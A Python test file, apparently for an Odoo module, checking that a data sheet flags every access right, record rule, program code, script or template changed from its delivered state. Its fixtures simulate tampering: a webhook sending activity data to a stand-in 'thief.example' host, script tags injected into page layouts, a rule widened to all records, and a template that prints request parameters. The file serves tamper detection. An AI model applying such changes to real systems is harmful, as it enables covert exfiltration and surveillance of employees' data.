"""The data sheet names every right, rule and program that is not as delivered."""

from .test_data_sheet import DataSheetCommon


class TestChanges(DataSheetCommon):
    def get_changes(self):
        return self.get_values()["changes"]

    def assert_changed(self, table, text):
        changes = self.get_changes()
        self.assertEqual(len(changes), 1, changes)
        self.assertEqual(changes[0][0], table)
        self.assertIn(text, changes[0][1])
        self.assertIn("Not as it was delivered", self.render(self.plain))

    def test_nothing_is_changed_at_first(self):
        self.assertEqual(self.get_changes(), [])
        self.assertNotIn("Not as it was delivered", self.render(self.plain))

    def test_a_changed_right_shows(self):
        right = self.env.ref("customer_mindset.access_mindset_participation_nobody")
        right.perm_read = True
        self.assertTrue(self.get_tables()["mindset.participation"]["rights"])
        self.assert_changed("Participation", "changed: access right")

    def test_a_changed_rule_shows(self):
        rule = self.env.ref("customer_mindset.mindset_reflection_rule_owner")
        rule.domain_force = "[(1, '=', 1)]"
        [shown] = self.get_tables()["mindset.reflection"]["rules"]
        self.assertEqual(shown[2], "[(1, '=', 1)]")
        self.assert_changed("Reflection", "changed: record rule")

    def test_a_rule_for_one_group_only_shows(self):
        rule = self.env.ref("customer_mindset.mindset_reflection_rule_owner")
        rule.groups = self.env.ref("base.group_user")
        self.assert_changed("Reflection", "changed: record rule")

    def test_a_rule_that_is_switched_off_shows(self):
        self.env.ref("customer_mindset.mindset_round_rule_company").active = False
        self.assert_changed("Round", "switched off: record rule")

    def test_a_deleted_rule_shows(self):
        self.env.ref("customer_mindset.mindset_round_rule_company").unlink()
        self.assert_changed(False, "deleted: record rule")

    def test_an_added_right_shows(self):
        self.env["ir.model.access"].create(
            {
                "name": "Curious",
                "model_id": self.env["ir.model"]._get_id("mindset.tally"),
                "group_id": self.env.ref("base.group_system").id,
                "perm_read": True,
            }
        )
        self.assert_changed("Tally", "added: access right “Curious”")

    def test_added_program_code_shows(self):
        self.env["ir.actions.server"].create(
            {
                "name": "Look inside",
                "model_id": self.env["ir.model"]._get_id("mindset.round"),
                "state": "code",
                "code": "records",
            }
        )
        self.assert_changed("Round", "added: program code “Look inside”")

    def test_changed_program_code_shows(self):
        """Even if whoever adds it calls it like something that was delivered."""
        job = self.env.ref("customer_mindset.mindset_retention_cron")
        job.ir_actions_server_id.code = "model._cron_run(); log('more')"
        [change] = self.get_changes()
        self.assertEqual(change[1], f"changed: program code “{job.name}”")
        action = job.ir_actions_server_id.copy({"name": "Innocent"})
        self.env["ir.model.data"].create(
            {
                "module": "customer_mindset",
                "name": "mindset_innocent",
                "model": action._name,
                "res_id": action.id,
            }
        )
        texts = [text for _table, text in self.get_changes()]
        self.assertIn("added: program code “Innocent”", texts)

    def test_an_action_on_activities_shows(self):
        """An automation on them would learn that somebody has written or declined."""
        self.env["ir.actions.server"].create(
            {
                "name": "Tell me",
                "model_id": self.env["ir.model"]._get_id("mail.activity"),
                "state": "webhook",
                "webhook_url": "https://thief.example",
            }
        )
        self.assert_changed(False, "added: program code “Tell me”")

    def test_a_script_of_all_pages_shows(self):
        self.env["ir.asset"].create(
            {"name": "Keys", "bundle": "web.assets_web", "path": "/web/content/9/a.js"}
        )
        self.assert_changed(False, "added: script or frame “Keys”")

    def test_a_changed_frame_of_all_pages_shows(self):
        layout = self.env.ref("web.layout")
        layout.arch = layout.arch.replace("</head>", "<script src='/x.js'/></head>")
        self.assert_changed(False, "added: script or frame “Web layout”")

    def test_an_extension_of_all_pages_shows(self):
        parent = self.env.ref("web.layout")
        for name in ("Banner", "On the banner"):
            parent = self.env["ir.ui.view"].create(
                {
                    "name": name,
                    "type": "qweb",
                    "mode": "extension",
                    "inherit_id": parent.id,
                    "arch": "<data/>",
                }
            )
        self.assertEqual(
            [text for _table, text in self.get_changes()],
            [
                "added: script or frame “Banner”",
                "added: script or frame “On the banner”",
            ],
        )

    def test_a_field_with_program_code_shows(self):
        self.env["ir.model.fields"].create(
            {
                "name": "x_look_inside",
                "ttype": "char",
                "model_id": self.env["ir.model"]._get_id("res.users"),
                "compute": "self.env['mindset.reflection']",
                "store": False,
            }
        )
        self.assert_changed(False, "added: program code “x_look_inside”")

    def test_a_daily_job_that_does_not_run_shows(self):
        self.env.ref("customer_mindset.mindset_retention_cron").active = False
        self.assert_changed(False, "the daily job does not run")


class TestChangedTemplates(DataSheetCommon):
    """An administrator changes what the texts of employees pass through."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.administrator = cls.env.ref("base.user_admin")
        cls.views = cls.env["ir.ui.view"].with_user(cls.administrator)

    def get_changes(self):
        return [text for _table, text in self.get_values()["changes"]]

    def get_view(self, name):
        view = self.env.ref(f"customer_mindset.{name}")
        return view.with_user(self.administrator)

    def change(self, name, old, new, lang="en_US"):
        view = self.get_view(name).with_context(lang=lang)
        arch = view.arch_db.replace(old, new)
        self.assertNotEqual(arch, view.arch_db)
        view.write({"arch_db": arch, "arch_updated": False})

    def test_no_language_changes_a_template(self):
        self.env["res.lang"]._activate_lang("de_DE")
        self.env["ir.module.module"]._load_module_terms(["customer_mindset"], ["de_DE"])
        view = self.get_view("pulse_form").with_context(lang="de_DE")
        self.assertIn("Stimmungsbild", view.arch_db)
        self.assertEqual(self.get_changes(), [])

    def test_a_changed_page_shows(self):
        self.change("pulse_form", "</form>", '<t t-out="request.params"/></form>')
        self.assertEqual(self.get_changes(), ["changed: template “pulse_form”"])
        self.assertIn("Not as it was delivered", self.render(self.plain))

    def test_a_changed_mail_shows(self):
        self.change("mail_invitation", 't-out="name"', 't-out="link"')
        self.assertEqual(self.get_changes(), ["changed: template “mail_invitation”"])

    def test_a_change_in_one_language_shows(self):
        self.env["res.lang"]._activate_lang("de_DE")
        self.env["ir.module.module"]._load_module_terms(["customer_mindset"], ["de_DE"])
        self.env.cr.execute(
            """
            UPDATE ir_ui_view
               SET arch_db = jsonb_set(arch_db, '{de_DE}', to_jsonb(
                   replace(arch_db->>'de_DE', '</form>', '<script src="/x"/></form>')))
             WHERE id = %s
            """,
            [self.get_view("pulse_form").id],
        )
        self.env.invalidate_all()
        self.assertEqual(self.get_changes(), ["changed: template “pulse_form”"])

    def test_an_extension_shows_and_one_of_an_extension(self):
        values = {"type": "qweb", "mode": "extension", "arch": "<data/>"}
        parent = self.get_view("mirror_page")
        for name in ("Curious", "More curious"):
            parent = self.views.create(
                {**values, "name": name, "inherit_id": parent.id}
            )
        self.assertEqual(
            self.get_changes(),
            ["added: template “Curious”", "added: template “More curious”"],
        )

    def test_a_page_in_the_place_of_another_shows(self):
        self.views.create(
            {
                "name": "Instead",
                "key": "customer_mindset.pulse_form",
                "type": "qweb",
                "priority": 1,
                "arch": "<t><p>Please sign here</p></t>",
            }
        )
        self.assertEqual(self.get_changes(), ["added: template “Instead”"])

    def test_a_template_that_is_switched_off_or_deleted_shows(self):
        self.get_view("mirror_limits").active = False
        self.get_view("pulse_next_code").unlink()
        self.assertEqual(
            self.get_changes(),
            [
                "switched off: template “mirror_limits”",
                "deleted: template “pulse_next_code”",
            ],
        )
